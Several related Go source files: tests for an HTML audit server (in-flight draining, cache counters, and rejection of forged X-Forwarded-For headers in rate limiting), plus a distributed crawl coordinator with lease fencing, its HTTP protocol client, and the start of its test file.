// connection accepted before the failure can still be mid-handler and
// about to submit to the worker queue. The old error path closed the
// pool immediately; the fix drains handlers with Shutdown first, so the
// in-flight audit below must complete with a 200 and Serve must return
// the listener error — not a panic.
func TestServeListenerFailureDrainsInFlight(t *testing.T) {
	release := make(chan struct{})
	started := make(chan struct{}, 1)
	cfg := Config{Workers: 1, CacheEntries: -1}
	cfg.testHookAuditStart = func() { started <- struct{}{}; <-release }
	s := New(cfg)

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	serveDone := make(chan error, 1)
	go func() { serveDone <- s.Serve(context.Background(), ln) }()

	status := make(chan int, 1)
	go func() {
		resp, err := http.Post("http://"+addr+"/v1/audit", "text/html", strings.NewReader("<html></html>"))
		if err != nil {
			status <- -1
			return
		}
		_ = resp.Body.Close()
		status <- resp.StatusCode
	}()

	select {
	case <-started:
	case <-time.After(10 * time.Second):
		t.Fatal("audit never started")
	}
	// Kill the listener out from under hs.Serve while the audit is held
	// in flight.
	_ = ln.Close()
	// Give the error path time to reach its old pool-close: under the bug
	// the handler's queue submit has already happened, but a second
	// request's submit would panic the worker pool; more directly, Close
	// before drain made Shutdown-in-flight requests race a closed jobs
	// channel. Releasing now lets the handler finish if (and only if) the
	// drain is still holding the pool open.
	time.Sleep(50 * time.Millisecond)
	close(release)

	select {
	case code := <-status:
		if code != http.StatusOK {
			t.Errorf("in-flight audit status = %d, want 200", code)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("in-flight audit never completed")
	}
	select {
	case err := <-serveDone:
		if err == nil || err == http.ErrServerClosed {
			t.Errorf("Serve error = %v, want the listener failure", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("Serve never returned after listener failure")
	}
}

// TestCacheDisabledCountsNoMisses pins the metrics-reconciliation fix:
// with caching disabled there is no cache to miss, so the miss counter
// (and the X-Cache header) must not fire.
func TestCacheDisabledCountsNoMisses(t *testing.T) {
	s := newTestServer(t, Config{CacheEntries: -1})
	for i := 0; i < 2; i++ {
		rec := postAudit(s, vulnerablePage, "")
		if rec.Code != 200 {
			t.Fatalf("status = %d", rec.Code)
		}
		if h := rec.Header().Get("X-Cache"); h != "" {
			t.Errorf("X-Cache = %q with caching disabled, want unset", h)
		}
	}
	if hits, misses := s.met.cacheHits.Load(), s.met.cacheMisses.Load(); hits != 0 || misses != 0 {
		t.Errorf("cache counters hits=%d misses=%d with caching disabled, want 0/0", hits, misses)
	}
}

// TestAbandonedAuditBanksReply pins the abandoned-request fix: when the
// client goes away after its audit was admitted, the worker's completed
// reply must be drained into the cache so the retry is a hit — not
// dropped on the floor with the work already done.
func TestAbandonedAuditBanksReply(t *testing.T) {
	release := make(chan struct{})
	started := make(chan struct{}, 1)
	cfg := Config{Workers: 1}
	cfg.testHookAuditStart = func() { started <- struct{}{}; <-release }
	s := newTestServer(t, cfg)

	ctx, cancel := context.WithCancel(context.Background())
	status := make(chan int, 1)
	go func() {
		req := httptest.NewRequest(http.MethodPost, "/v1/audit?host=example.com",
			strings.NewReader(vulnerablePage)).WithContext(ctx)
		rec := httptest.NewRecorder()
		s.ServeHTTP(rec, req)
		status <- rec.Code
	}()

	select {
	case <-started:
	case <-time.After(10 * time.Second):
		t.Fatal("audit never started")
	}
	cancel() // the client abandons while the worker still holds the job
	close(release)
	if code := <-status; code != http.StatusServiceUnavailable {
		t.Fatalf("abandoned request status = %d, want 503", code)
	}

	// The retry must be served from the cache the abandoned reply filled.
	rec := postAudit(s, vulnerablePage, "")
	if rec.Code != 200 || rec.Header().Get("X-Cache") != "hit" {
		t.Errorf("retry = %d X-Cache=%q, want 200 hit", rec.Code, rec.Header().Get("X-Cache"))
	}
	if hits := s.met.cacheHits.Load(); hits != 1 {
		t.Errorf("cacheHits = %d, want 1", hits)
	}
}

// TestClientKeyRejectsForgedXFF pins the rate-limit hardening: the first
// X-Forwarded-For hop only identifies the client when it parses as an
// IP, so an attacker spraying junk headers cannot mint fresh buckets.
func TestClientKeyRejectsForgedXFF(t *testing.T) {
	mk := func(remote, xff string) *http.Request {
		r := httptest.NewRequest(http.MethodPost, "/v1/audit", nil)
		r.RemoteAddr = remote
		if xff != "" {
			r.Header.Set("X-Forwarded-For", xff)
		}
		return r
	}
	cases := []struct {
		name string
		req  *http.Request
		want string
	}{
		{"no header", mk("198.51.100.7:4242", ""), "198.51.100.7"},
		{"valid hop", mk("198.51.100.7:4242", "203.0.113.9, 10.0.0.1"), "203.0.113.9"},
		{"canonicalized v6", mk("198.51.100.7:4242", "2001:db8:0:0::1"), "2001:db8::1"},
		{"garbage hop", mk("198.51.100.7:4242", "not-an-ip"), "198.51.100.7"},
		{"oversized hop", mk("198.51.100.7:4242", strings.Repeat("a", 4096)), "198.51.100.7"},
		{"padded spray", mk("198.51.100.7:4242", strings.Repeat("1", 100)+".2.3.4"), "198.51.100.7"},
	}
	for _, tc := range cases {
		if got := clientKey(tc.req); got != tc.want {
			t.Errorf("%s: clientKey = %q, want %q", tc.name, got, tc.want)
		}
	}
}

// TestRateLimitXFFSprayCannotEscapeBucket drives the bypass end to end:
// under the old trust-anything clientKey each sprayed header value was a
// fresh bucket and every request sailed through; now they all land in
// the RemoteAddr bucket and the spray is throttled like any client.
func TestRateLimitXFFSprayCannotEscapeBucket(t *testing.T) {
	s := newTestServer(t, Config{RatePerSec: 1, Burst: 2})
	var last int
	for i := 0; i < 5; i++ {
		req := httptest.NewRequest(http.MethodPost, "/v1/audit", strings.NewReader("<html></html>"))
		req.Header.Set("X-Forwarded-For", strings.Repeat("x", 200+i))
		rec := httptest.NewRecorder()
		s.ServeHTTP(rec, req)
		last = rec.Code
	}
	if last != http.StatusTooManyRequests {
		t.Fatalf("fifth sprayed request status = %d, want 429", last)
	}
	if shed := s.met.shedRate.Load(); shed != 3 {
		t.Errorf("shedRate = %d, want 3 (burst of 2 then throttled)", shed)
	}
}
