package distcrawl

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"sync"
	"time"

	"clientres/internal/crawler"
	"clientres/internal/store"
)

// StateName is the coordinator's assignment-state journal inside the
// store root, committed atomically (temp+fsync+rename, the checkpoint
// discipline) after every state mutation — a coordinator restart
// rehydrates leases and accepted spans instead of restarting the crawl.
const StateName = "coordinator.json"

// lease is one live assignment.
type lease struct {
	Worker string `json:"worker"`
	Epoch  int64  `json:"epoch"`
	// Deadline is the instant the lease expires without a renewal.
	Deadline time.Time `json:"deadline"`
	// StartWeek is the week the assignment began at (the span's FromWeek
	// once its first commit is accepted).
	StartWeek int `json:"start_week"`
}

// partition is one unit of assignment and recovery.
type partition struct {
	// NextWeek is the first week no commit has been accepted for.
	NextWeek int `json:"next_week"`
	Done     bool `json:"done"`
	// Lease is the live assignment (nil when idle or done).
	Lease *lease `json:"lease,omitempty"`
	// Spans are the accepted commit ranges, in grant (= epoch, = week)
	// order. They tile [0, NextWeek) exactly.
	Spans []Span `json:"spans,omitempty"`
}

// coordState is the persisted assignment state.
type coordState struct {
	Spec RunSpec `json:"spec"`
	// NextEpoch is the next fencing token to grant; epochs are unique and
	// strictly increasing across the whole run, never per partition.
	NextEpoch int64       `json:"next_epoch"`
	Parts     []*partition `json:"parts"`
}

// Coordinator owns the frontier: which weeks of which partitions are
// accepted, who leases what, and under which epoch. All methods are safe
// for concurrent use; expiry is evaluated lazily against Now at every
// entry point, so a blocked clock (tests) or a paused process never
// spuriously expires anyone.
type Coordinator struct {
	// Now is the clock (nil = time.Now); injectable so tests drive lease
	// expiry deterministically.
	Now func() time.Time
	// Logf, when set, receives one line per state transition.
	Logf func(format string, args ...any)

	mu        sync.Mutex
	st        coordState
	statePath string
}

// NewCoordinator creates a coordinator for spec, persisting assignment
// state under spec.Dir. If a state journal from a previous coordinator
// run exists there, it is rehydrated — leases resume with their recorded
// deadlines (stale ones simply expire at the next sweep) — after
// verifying it describes the same run; pass a different Dir for a
// different run.
func NewCoordinator(spec RunSpec) (*Coordinator, error) {
	if spec.Partitions < 1 {
		return nil, fmt.Errorf("distcrawl: %d partitions", spec.Partitions)
	}
	if spec.Weeks < 1 || spec.Domains < 1 {
		return nil, fmt.Errorf("distcrawl: empty study shape (%d domains, %d weeks)", spec.Domains, spec.Weeks)
	}
	if spec.LeaseTTL <= 0 {
		spec.LeaseTTL = 10 * time.Second
	}
	if spec.Dir == "" {
		return nil, fmt.Errorf("distcrawl: RunSpec.Dir required")
	}
	if err := os.MkdirAll(spec.Dir, 0o755); err != nil {
		return nil, fmt.Errorf("distcrawl: %w", err)
	}
	c := &Coordinator{statePath: statePath(spec.Dir)}
	if data, err := os.ReadFile(c.statePath); err == nil {
		var st coordState
		if err := json.Unmarshal(data, &st); err != nil {
			return nil, fmt.Errorf("distcrawl: %s: corrupt state: %w", c.statePath, err)
		}
		if st.Spec != spec {
			return nil, fmt.Errorf("distcrawl: %s: state belongs to a different run (have %+v, want %+v)",
				c.statePath, st.Spec, spec)
		}
		if len(st.Parts) != spec.Partitions {
			return nil, fmt.Errorf("distcrawl: %s: state has %d partitions, spec %d",
				c.statePath, len(st.Parts), spec.Partitions)
		}
		c.st = st
		return c, nil
	} else if !os.IsNotExist(err) {
		return nil, fmt.Errorf("distcrawl: %w", err)
	}
	c.st = coordState{Spec: spec, NextEpoch: 1, Parts: make([]*partition, spec.Partitions)}
	for i := range c.st.Parts {
		c.st.Parts[i] = &partition{}
	}
	if err := c.persistLocked(); err != nil {
		return nil, err
	}
	return c, nil
}

func statePath(dir string) string { return dir + string(os.PathSeparator) + StateName }

func (c *Coordinator) now() time.Time {
	if c.Now != nil {
		return c.Now()
	}
	return time.Now()
}

func (c *Coordinator) logf(format string, args ...any) {
	if c.Logf != nil {
		c.Logf(format, args...)
	}
}

// persistLocked commits the assignment state atomically. Called with mu
// held, after every mutation — the journal on disk is never more than
// one accepted transition behind the in-memory truth, and a crash
// between mutation and persist merely forgets the last grant or commit
// (the worker retries; grants re-issue under a fresh epoch).
func (c *Coordinator) persistLocked() error {
	data, err := json.MarshalIndent(c.st, "", "  ")
	if err != nil {
		return fmt.Errorf("distcrawl: %w", err)
	}
	return store.AtomicWriteFile(nil, c.statePath, append(data, '\n'))
}

// expireLocked sweeps lapsed leases. Lazy: runs at every entry point
// instead of on a timer, so expiry follows the injected clock exactly.
func (c *Coordinator) expireLocked(now time.Time) {
	for p, part := range c.st.Parts {
		if l := part.Lease; l != nil && now.After(l.Deadline) {
			c.logf("lease expired: partition %d epoch %d worker %s (deadline %s)",
				p, l.Epoch, l.Worker, l.Deadline.Format(time.RFC3339))
			part.Lease = nil
		}
	}
}

// Spec returns the run configuration.
func (c *Coordinator) Spec() RunSpec {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.st.Spec
}

// Lease grants the lowest idle partition to worker, or reports all-done /
// nothing-free.
func (c *Coordinator) Lease(worker string) LeaseResponse {
	c.mu.Lock()
	defer c.mu.Unlock()
	now := c.now()
	c.expireLocked(now)
	done := true
	for p, part := range c.st.Parts {
		if part.Done {
			continue
		}
		done = false
		if part.Lease != nil {
			continue
		}
		l := &lease{
			Worker:    worker,
			Epoch:     c.st.NextEpoch,
			Deadline:  now.Add(c.st.Spec.LeaseTTL),
			StartWeek: part.NextWeek,
		}
		c.st.NextEpoch++
		part.Lease = l
		if err := c.persistLocked(); err != nil {
			// An unpersisted grant must not circulate: a restart would
			// forget it and could re-grant the partition under an epoch
			// colliding with the one we just handed out.
			part.Lease = nil
			c.st.NextEpoch--
			c.logf("lease persist failed: %v", err)
			return LeaseResponse{}
		}
		c.logf("lease granted: partition %d epoch %d -> %s (start week %d)", p, l.Epoch, worker, l.StartWeek)
		return LeaseResponse{Assigned: true, Partition: p, Epoch: l.Epoch, StartWeek: l.StartWeek, TTL: c.st.Spec.LeaseTTL}
	}
	return LeaseResponse{Done: done}
}

// Renew extends a live lease. A renewal under a lapsed or superseded
// lease is refused — the worker's epoch is fenced and it must abandon
// the assignment.
func (c *Coordinator) Renew(req RenewRequest) RenewResponse {
	c.mu.Lock()
	defer c.mu.Unlock()
	now := c.now()
	c.expireLocked(now)
	part, resp := c.leaseCheckLocked(req.Partition, req.Epoch, req.Worker)
	if part == nil {
		return resp
	}
	part.Lease.Deadline = now.Add(c.st.Spec.LeaseTTL)
	// A lost renewal persist is harmless (the deadline is merely older on
	// disk), so no rollback needed.
	_ = c.persistLocked()
	return RenewResponse{OK: true}
}

// leaseCheckLocked validates that (partition, epoch, worker) names the
// live lease, returning the partition or a refusal.
func (c *Coordinator) leaseCheckLocked(p int, epoch int64, worker string) (*partition, RenewResponse) {
	if p < 0 || p >= len(c.st.Parts) {
		return nil, RenewResponse{Reason: fmt.Sprintf("no partition %d", p)}
	}
	part := c.st.Parts[p]
	l := part.Lease
	switch {
	case l == nil:
		return nil, RenewResponse{Reason: "lease expired"}
	case l.Epoch != epoch:
		return nil, RenewResponse{Reason: fmt.Sprintf("fenced: lease epoch %d, yours %d", l.Epoch, epoch)}
	case l.Worker != worker:
		return nil, RenewResponse{Reason: fmt.Sprintf("lease held by %s", l.Worker)}
	}
	return part, RenewResponse{}
}

// Commit accepts one committed week of a live assignment. Accepted
// commits are the dataset: they extend the epoch's span, advance the
// partition frontier, and renew the lease. A commit under a lapsed or
// superseded epoch is fenced; a non-contiguous week is refused (the
// worker is confused); a re-commit of an already-accepted week of the
// same epoch is idempotently OK (the worker retried a lost response).
func (c *Coordinator) Commit(req CommitRequest) CommitResponse {
	c.mu.Lock()
	defer c.mu.Unlock()
	now := c.now()
	c.expireLocked(now)
	part, refusal := c.leaseCheckLocked(req.Partition, req.Epoch, req.Worker)
	if part == nil {
		c.logf("commit fenced: partition %d epoch %d week %d from %s: %s",
			req.Partition, req.Epoch, req.Week, req.Worker, refusal.Reason)
		return CommitResponse{Reason: refusal.Reason}
	}
	if req.Week < part.NextWeek {
		// Already accepted (this epoch's span covers it, or the worker is
		// replaying after a lost response): idempotent success, but only
		// for the live epoch — stale epochs were fenced above.
		return CommitResponse{OK: true, Done: part.Done}
	}
	if req.Week != part.NextWeek {
		return CommitResponse{Reason: fmt.Sprintf("non-contiguous: next week is %d, got %d", part.NextWeek, req.Week)}
	}
	// Extend (or open) the live epoch's span.
	if n := len(part.Spans); n > 0 && part.Spans[n-1].Epoch == req.Epoch {
		part.Spans[n-1].ToWeek = req.Week + 1
		part.Spans[n-1].Metrics = req.Metrics
	} else {
		part.Spans = append(part.Spans, Span{
			Partition: req.Partition, Epoch: req.Epoch,
			FromWeek: req.Week, ToWeek: req.Week + 1,
			Worker: req.Worker, Metrics: req.Metrics,
		})
	}
	part.NextWeek = req.Week + 1
	part.Lease.Deadline = now.Add(c.st.Spec.LeaseTTL)
	if part.NextWeek == c.st.Spec.Weeks {
		part.Done = true
		part.Lease = nil
	}
	if err := c.persistLocked(); err != nil {
		// Roll back: an unpersisted acceptance must not circulate, or a
		// coordinator restart would demand a week the worker believes
		// accepted.
		c.rollbackCommitLocked(part, req)
		c.logf("commit persist failed: %v", err)
		return CommitResponse{Reason: "state persist failed"}
	}
	c.logf("commit accepted: partition %d epoch %d week %d (%s)", req.Partition, req.Epoch, req.Week, req.Worker)
	return CommitResponse{OK: true, Done: part.Done}
}

// rollbackCommitLocked undoes the in-memory effects of an acceptance
// whose persist failed.
func (c *Coordinator) rollbackCommitLocked(part *partition, req CommitRequest) {
	part.NextWeek = req.Week
	part.Done = false
	if n := len(part.Spans); n > 0 && part.Spans[n-1].Epoch == req.Epoch {
		if part.Spans[n-1].FromWeek == req.Week {
			part.Spans = part.Spans[:n-1]
		} else {
			part.Spans[n-1].ToWeek = req.Week
		}
	}
	if part.Lease == nil {
		part.Lease = &lease{Worker: req.Worker, Epoch: req.Epoch, Deadline: c.now().Add(c.st.Spec.LeaseTTL)}
	}
}

// Status snapshots the coordinator's observable state.
func (c *Coordinator) Status() StatusResponse {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.expireLocked(c.now())
	resp := StatusResponse{Done: true, Assigned: map[int]int64{}}
	var agg crawler.MetricsSnapshot
	for p, part := range c.st.Parts {
		if !part.Done {
			resp.Done = false
		}
		if part.Lease != nil {
			resp.Assigned[p] = part.Lease.Epoch
		}
		for _, sp := range part.Spans {
			resp.Spans = append(resp.Spans, sp)
			agg.Merge(sp.Metrics)
		}
	}
	resp.Metrics = agg
	return resp
}

// Done reports whether every partition is fully committed.
func (c *Coordinator) Done() bool { return c.Status().Done }

// Spans returns the accepted commit spans — the authoritative dataset
// definition the merge consumes.
func (c *Coordinator) Spans() []Span {
	return c.Status().Spans
}

// Handler returns the coordinator's HTTP protocol surface.
func (c *Coordinator) Handler() http.Handler {
	mux := http.NewServeMux()
	post := func(path string, fn func(*json.Decoder) (any, error)) {
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			if r.Method != http.MethodPost {
				http.Error(w, "POST only", http.StatusMethodNotAllowed)
				return
			}
			resp, err := fn(json.NewDecoder(r.Body))
			if err != nil {
				http.Error(w, err.Error(), http.StatusBadRequest)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			_ = json.NewEncoder(w).Encode(resp)
		})
	}
	post(PathRegister, func(d *json.Decoder) (any, error) {
		var req RegisterRequest
		if err := d.Decode(&req); err != nil {
			return nil, err
		}
		c.logf("worker registered: %s", req.Worker)
		return RegisterResponse{Spec: c.Spec()}, nil
	})
	post(PathLease, func(d *json.Decoder) (any, error) {
		var req LeaseRequest
		if err := d.Decode(&req); err != nil {
			return nil, err
		}
		return c.Lease(req.Worker), nil
	})
	post(PathRenew, func(d *json.Decoder) (any, error) {
		var req RenewRequest
		if err := d.Decode(&req); err != nil {
			return nil, err
		}
		return c.Renew(req), nil
	})
	post(PathCommit, func(d *json.Decoder) (any, error) {
		var req CommitRequest
		if err := d.Decode(&req); err != nil {
			return nil, err
		}
		return c.Commit(req), nil
	})
	mux.HandleFunc(PathStatus, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(c.Status())
	})
	return mux
}
