// Package distcrawl is the distributed crawl plane: a coordinator that
// owns the study frontier and leases domain partitions to workers over a
// small HTTP/JSON protocol, and workers that run the existing resilient
// crawl path per assignment, each writing its own week-granular
// checkpointed store generation.
//
// The partition function is store.ShardOf — the one FNV-1a hash the
// segmented store and the analysis shards already use — so a host lives
// on exactly one worker (per-host politeness survives distribution, the
// BUbiNG invariant) and the merged per-partition collector sets are
// exactly the proven shard-merge machinery: a distributed run's report is
// byte-identical to a serial core.Run of the same configuration.
//
// Failure model: leases are time-boxed and renewed by heartbeat. A
// missed renewal expires the lease and the partition is reassigned to a
// surviving worker under a new, strictly larger epoch; the new assignment
// starts at the dead worker's last *accepted* week. Every epoch writes
// its own generation directory — a zombie whose lease expired keeps
// appending only to files nobody else will ever adopt, and its late
// week-commits are fenced twice: the coordinator rejects the stale epoch,
// and the store layer refuses a CommitWeek under an epoch older than the
// journal's (store.ErrFenced). The dataset is defined by the
// coordinator's accepted commit spans; the merge week-filters every
// generation down to its span, so nothing a zombie wrote past its lease
// can leak into the report.
package distcrawl

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"path/filepath"
	"time"

	"clientres/internal/crawler"
	"clientres/internal/webgen"
)

// Protocol endpoints (all POST except /v1/status).
const (
	PathRegister = "/v1/register"
	PathLease    = "/v1/lease"
	PathRenew    = "/v1/renew"
	PathCommit   = "/v1/commit"
	PathStatus   = "/v1/status"
)

// RunSpec is the study configuration the coordinator hands every worker
// at registration — the single source of truth for the run's shape, so
// worker flags cannot diverge from the coordinator's.
type RunSpec struct {
	// Domains, Weeks, Seed, Bundling parameterize the synthetic population
	// (each worker regenerates the identical ecosystem from the seed and
	// serves it on its own loopback listener).
	Domains int             `json:"domains"`
	Weeks   int             `json:"weeks"`
	Seed    int64           `json:"seed"`
	Bundling webgen.Bundling `json:"bundling,omitempty"`
	// BundleScan enables bundle-aware fingerprinting (same-site script
	// fetches), as core.Config.BundleScan.
	BundleScan bool `json:"bundle_scan,omitempty"`
	// Partitions is the domain-hash partition count — the unit of
	// assignment and failure recovery.
	Partitions int `json:"partitions"`
	// Dir is the store root shared by coordinator and workers; partition
	// p's epoch-e generation lives at GenDir(Dir, p, e).
	Dir string `json:"dir"`
	// LeaseTTL is how long an assignment stays valid without a renewal.
	LeaseTTL time.Duration `json:"lease_ttl"`
}

// RegisterRequest introduces a worker to the coordinator.
type RegisterRequest struct {
	Worker string `json:"worker"`
}

// RegisterResponse hands the worker the run configuration.
type RegisterResponse struct {
	Spec RunSpec `json:"spec"`
}

// LeaseRequest asks for an assignment.
type LeaseRequest struct {
	Worker string `json:"worker"`
}

// LeaseResponse grants a partition lease (Assigned), reports that
// everything is already assigned (neither flag; poll again), or reports
// the whole run complete (Done).
type LeaseResponse struct {
	Assigned bool `json:"assigned,omitempty"`
	Done     bool `json:"done,omitempty"`
	// Partition and Epoch identify the assignment; Epoch is the fencing
	// token — strictly increasing across all grants of the run.
	Partition int   `json:"partition,omitempty"`
	Epoch     int64 `json:"epoch,omitempty"`
	// StartWeek is the first week to crawl: 0 for a fresh partition, the
	// predecessor's last accepted week + 1 after a reassignment.
	StartWeek int `json:"start_week,omitempty"`
	// TTL echoes the lease duration the worker must renew within.
	TTL time.Duration `json:"ttl,omitempty"`
}

// RenewRequest is the heartbeat extending a lease.
type RenewRequest struct {
	Worker    string `json:"worker"`
	Partition int    `json:"partition"`
	Epoch     int64  `json:"epoch"`
}

// RenewResponse reports whether the lease is still held. OK false means
// the lease expired or was superseded: the worker must abandon the
// assignment immediately (its epoch is fenced) and ask for a new lease.
type RenewResponse struct {
	OK     bool   `json:"ok"`
	Reason string `json:"reason,omitempty"`
}

// CommitRequest reports one durably committed week of an assignment. The
// worker commits its store generation first, then sends this; a rejected
// protocol commit means the store commit is surplus the merge will
// exclude (the generation's accepted span is the authority).
type CommitRequest struct {
	Worker    string `json:"worker"`
	Partition int    `json:"partition"`
	Epoch     int64  `json:"epoch"`
	Week      int    `json:"week"`
	// Metrics is the worker's cumulative crawl snapshot for this
	// generation; the coordinator keeps the latest per span and merges
	// across spans for the run aggregate.
	Metrics crawler.MetricsSnapshot `json:"metrics"`
}

// CommitResponse accepts or fences a week commit. An accepted commit also
// renews the lease. Done reports the partition fully crawled — the worker
// should close its generation and ask for a new lease.
type CommitResponse struct {
	OK     bool   `json:"ok"`
	Done   bool   `json:"done,omitempty"`
	Reason string `json:"reason,omitempty"`
}

// Span is one accepted commit range of one generation: partition p's
// weeks [FromWeek, ToWeek) under lease epoch Epoch, stored in
// GenDir(dir, p, Epoch). The coordinator's span list is the authoritative
// definition of the distributed dataset.
type Span struct {
	Partition int   `json:"partition"`
	Epoch     int64 `json:"epoch"`
	FromWeek  int   `json:"from_week"`
	ToWeek    int   `json:"to_week"`
	// Worker is diagnostic: who held the lease.
	Worker string `json:"worker,omitempty"`
	// Metrics is the generation's latest cumulative crawl snapshot.
	Metrics crawler.MetricsSnapshot `json:"metrics"`
}

// StatusResponse is the coordinator's observable state.
type StatusResponse struct {
	Done  bool   `json:"done"`
	Spans []Span `json:"spans"`
	// Assigned maps partition -> current lease epoch (absent = idle/done).
	Assigned map[int]int64 `json:"assigned,omitempty"`
	// Metrics aggregates every span's snapshot (counters summed,
	// histograms bucket-wise) — the whole run's crawl work.
	Metrics crawler.MetricsSnapshot `json:"metrics"`
}

// GenDir is the store generation directory for one (partition, epoch):
// <root>/part-%04d/gen-%06d. A new epoch always writes a new directory,
// never a predecessor's files — that isolation, not file locking, is what
// makes a zombie's post-expiry writes harmless.
func GenDir(root string, partition int, epoch int64) string {
	return filepath.Join(root, fmt.Sprintf("part-%04d", partition), fmt.Sprintf("gen-%06d", epoch))
}

// Client is a minimal JSON-over-HTTP client for the coordinator protocol.
type Client struct {
	// BaseURL is the coordinator's root URL, e.g. "http://127.0.0.1:7700".
	BaseURL string
	// HTTP overrides the transport (nil = a client with a short timeout —
	// every protocol exchange is tiny; hanging on a dead coordinator past
	// a lease TTL would be self-defeating).
	HTTP *http.Client
}

func (c *Client) http() *http.Client {
	if c.HTTP != nil {
		return c.HTTP
	}
	return &http.Client{Timeout: 5 * time.Second}
}

// post round-trips one JSON request/response pair.
func (c *Client) post(path string, req, resp any) error {
	body, err := json.Marshal(req)
	if err != nil {
		return fmt.Errorf("distcrawl: %w", err)
	}
	r, err := c.http().Post(c.BaseURL+path, "application/json", bytes.NewReader(body))
	if err != nil {
		return fmt.Errorf("distcrawl: %s: %w", path, err)
	}
	defer r.Body.Close()
	if r.StatusCode != http.StatusOK {
		return fmt.Errorf("distcrawl: %s: HTTP %d", path, r.StatusCode)
	}
	if err := json.NewDecoder(r.Body).Decode(resp); err != nil {
		return fmt.Errorf("distcrawl: %s: %w", path, err)
	}
	return nil
}

// Register introduces the worker and fetches the run spec.
func (c *Client) Register(worker string) (RunSpec, error) {
	var resp RegisterResponse
	err := c.post(PathRegister, RegisterRequest{Worker: worker}, &resp)
	return resp.Spec, err
}

// Lease requests an assignment.
func (c *Client) Lease(worker string) (LeaseResponse, error) {
	var resp LeaseResponse
	err := c.post(PathLease, LeaseRequest{Worker: worker}, &resp)
	return resp, err
}

// Renew heartbeats a lease.
func (c *Client) Renew(req RenewRequest) (RenewResponse, error) {
	var resp RenewResponse
	err := c.post(PathRenew, req, &resp)
	return resp, err
}

// Commit reports a durably committed week.
func (c *Client) Commit(req CommitRequest) (CommitResponse, error) {
	var resp CommitResponse
	err := c.post(PathCommit, req, &resp)
	return resp, err
}

// Status fetches the coordinator's observable state.
func (c *Client) Status() (StatusResponse, error) {
	r, err := c.http().Get(c.BaseURL + PathStatus)
	if err != nil {
		return StatusResponse{}, fmt.Errorf("distcrawl: %s: %w", PathStatus, err)
	}
	defer r.Body.Close()
	var resp StatusResponse
	if err := json.NewDecoder(r.Body).Decode(&resp); err != nil {
		return StatusResponse{}, fmt.Errorf("distcrawl: %s: %w", PathStatus, err)
	}
	return resp, nil
}
