package distcrawl

import (
	"context"
	"errors"
	"fmt"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"clientres/internal/core"
)

// The shared study shape: small enough to crawl in seconds, large enough
// that every partition holds several domains.
const (
	testDomains = 40
	testWeeks   = 5
	testSeed    = 7
)

// fakeClock is the coordinator's injectable time source: it advances only
// when the test says so, making lease expiry a deliberate event.
type fakeClock struct {
	base time.Time
	off  atomic.Int64
}

func newFakeClock() *fakeClock { return &fakeClock{base: time.Unix(1_700_000_000, 0)} }

func (c *fakeClock) Now() time.Time          { return c.base.Add(time.Duration(c.off.Load())) }
func (c *fakeClock) Advance(d time.Duration) { c.off.Add(int64(d)) }

// serialReport lazily computes the serial core.Run reference report — the
// byte-identity target every distributed run is compared against.
var (
	serialOnce   sync.Once
	serialOut    string
	serialRunErr error
)

func serialReport(t *testing.T) string {
	t.Helper()
	serialOnce.Do(func() {
		res, err := core.Run(context.Background(), core.Config{
			Domains: testDomains, Weeks: testWeeks, Seed: testSeed,
			Mode: core.ModeCrawl, Workers: 8, SkipPoC: true,
		})
		if err != nil {
			serialRunErr = err
			return
		}
		serialOut = reportOf(res)
	})
	if serialRunErr != nil {
		t.Fatalf("serial reference: %v", serialRunErr)
	}
	return serialOut
}

func reportOf(res *core.Results) string {
	var sb strings.Builder
	res.WriteReport(&sb)
	return sb.String()
}

// testSpec builds the distributed RunSpec matching the serial reference.
func testSpec(dir string, partitions int) RunSpec {
	return RunSpec{
		Domains: testDomains, Weeks: testWeeks, Seed: testSeed,
		Partitions: partitions, Dir: dir, LeaseTTL: time.Second,
	}
}

// startCoordinator wires a coordinator onto a loopback HTTP server.
func startCoordinator(t *testing.T, spec RunSpec, clk *fakeClock) (*Coordinator, *Client) {
	t.Helper()
	coord, err := NewCoordinator(spec)
	if err != nil {
		t.Fatal(err)
	}
	coord.Now = clk.Now
	coord.Logf = t.Logf
	ts := httptest.NewServer(coord.Handler())
	t.Cleanup(ts.Close)
	return coord, &Client{BaseURL: ts.URL}
}

// advanceUntil ticks the fake clock forward in sub-TTL steps — slowly
// enough that healthy workers' real-time heartbeats keep their leases
// alive, fast enough that a silent worker's lease expires within a few
// steps — until cond holds or the deadline passes.
func advanceUntil(t *testing.T, clk *fakeClock, timeout time.Duration, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("condition not reached within %v", timeout)
		}
		clk.Advance(200 * time.Millisecond)
		time.Sleep(50 * time.Millisecond)
	}
}

// waitDone waits for every worker goroutine to return. A worker may
// finish with nil (it saw the run complete) or context.Canceled (the
// test, or the kill injection, canceled it); anything else is a failure.
func waitDone(t *testing.T, errs []chan error) {
	t.Helper()
	for i, ch := range errs {
		select {
		case err := <-ch:
			if err != nil && !errors.Is(err, context.Canceled) {
				t.Errorf("worker %d: %v", i, err)
			}
		case <-time.After(30 * time.Second):
			t.Fatalf("worker %d never exited", i)
		}
	}
}

// The headline proof: a distributed crawl with an injected worker death
// mid-run — lease expiry, partition reassignment, resume at the last
// accepted week — merges to a report byte-identical to the serial
// core.Run reference, across worker counts 1, 2, and 4. With one worker
// the "death" is an injected assignment abort (the lone worker must
// survive to finish the study); with more, the worker process dies for
// real and a survivor absorbs its partition.
func TestDistributedByteIdenticalWithKills(t *testing.T) {
	if testing.Short() {
		t.Skip("distributed crawl matrix is not short")
	}
	want := serialReport(t)
	for _, nw := range []int{1, 2, 4} {
		nw := nw
		t.Run(map[int]string{1: "workers-1", 2: "workers-2", 4: "workers-4"}[nw], func(t *testing.T) {
			clk := newFakeClock()
			spec := testSpec(t.TempDir(), 3)
			coord, client := startCoordinator(t, spec, clk)

